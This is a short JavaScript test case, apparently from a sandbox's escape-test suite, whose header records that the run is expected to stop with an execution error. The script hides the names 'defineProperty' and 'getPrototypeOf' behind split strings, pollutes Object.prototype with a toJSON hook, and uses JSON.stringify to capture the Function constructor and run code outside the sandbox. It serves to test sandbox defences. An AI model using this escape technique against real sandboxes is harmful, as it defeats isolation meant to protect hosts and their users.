//! title: maker by json key list
//! stopped: 4 EXECUTION_ERROR
const hidden = []
const { def, of } = await callTool('echo', { def: 'defineProper', of: 'getPrototyp' })
const top = Object[of + 'eOf']({})
Object[def + 'ty'](top, 'toJSON', { value() { hidden.push(this); return this }, configurable: true })
JSON.stringify(Object.create(() => {}), ['constructor'])
for (const value of hidden) if (typeof value === 'function') return value("return 'ESCAPED'")()
return hidden.length
